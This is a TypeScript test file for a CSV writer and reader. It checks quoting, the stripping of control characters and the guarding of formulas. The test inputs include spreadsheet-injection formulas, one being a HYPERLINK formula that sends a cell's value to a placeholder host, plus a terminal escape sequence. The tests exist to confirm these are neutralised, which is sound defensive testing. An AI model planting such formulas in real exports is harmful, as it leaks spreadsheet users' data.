import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { readRecords } from '../read-records.ts'
import { csvLine, UTF8_MARK } from './csv-text.ts'

describe('a cell', () => {
  test.each([
    ['Dune', 'Dune'],
    ['', ''],
    [null, ''],
    [0, '0'],
    [-2, '-2'],
    [1e21, '1e+21'],
    [true, 'true'],
    [false, 'false'],
    ['Dune, Messiah', '"Dune, Messiah"'],
    ['the "spice"', '"the ""spice"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['a;b', '"a;b"'],
    ['a\tb', '"a\tb"'],
    ['a|b', '"a|b"'],
    [' Dune ', '" Dune "'],
    // An escape sequence of a terminal, and what a database may have kept from an old file.
    ['Du\u001b[2Jne\u0000\u009b', 'Du[2Jne'],
  ])('of %j is %j', (value, text) => {
    expect(csvLine([value])).toBe(`${text}\r\n`)
  })

  test.each([
    ['=1+1', "'=1+1"],
    ['+49 30 1234', "'+49 30 1234"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ['\n=1+1', '"\'\n=1+1"'],
    ['＝1+1', "'＝1+1"],
    ['\u0000=1+1', "'=1+1"],
    ['=HYPERLINK("http://a.example?"&A1,"Dune")', '"\'=HYPERLINK(""http://a.example?""&A1,""Dune"")"'],
  ])('that a spreadsheet would run, %j, gets an apostrophe', (value, text) => {
    expect(csvLine([value])).toBe(`${text}\r\n`)
  })

  test.each(['1=1', 'a@example.org', "'quoted'", '2026-03-01', '19.99', '9780441013593'])(
    'that is no formula stays: %j',
    (value) => {
      expect(csvLine([value])).toBe(`${value}\r\n`)
    },
  )
})

const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({
    unit: fc.constantFrom('"', ',', ';', '\t', '|', '\n', '\r', ' ', '=', '-', "'", 'a', 'é', '書'),
  }),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
)

const isFormula = (text: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(text)

/** What is read of a cell: text without characters of control and spaces around it, with each line break as one character. */
function readBack(value: string | number | boolean | null): string {
  const text = String(value ?? '').replaceAll(/(?![\t\n\r])\p{Cc}/gu, '')
  const guarded = typeof value === 'string' && isFormula(text) ? `'${text}` : text
  return guarded.replaceAll(/\r\n?/g, '\n').trim()
}

test('whatever the cells are, the reader of this package reads them back, and none as a formula', async () => {
  const table = fc
    .integer({ min: 1, max: 5 })
    .chain((width) =>
      fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
    )
  await fc.assert(
    fc.asyncProperty(table, async (rows) => {
      const header = rows[0]?.map((_, column) => `column_${column}`) ?? []
      const text = UTF8_MARK + [header, ...rows].map(csvLine).join('')
      const { rows: readRows } = await readRecords(bytesOf(text))
      const found: string[][] = []
      for await (const { cells, problem } of readRows) {
        expect(problem).toBeNull()
        found.push(cells)
      }
      const expected = rows
        .map((cells) => cells.map(readBack))
        // Rows without any value are left out.
        .filter((cells) => cells.some((read) => read !== ''))
      expect(found).toEqual([header, ...expected])
    }),
    { numRuns: 500 },
  )
})

async function* bytesOf(text: string): AsyncGenerator<Uint8Array> {
  yield new TextEncoder().encode(text)
}
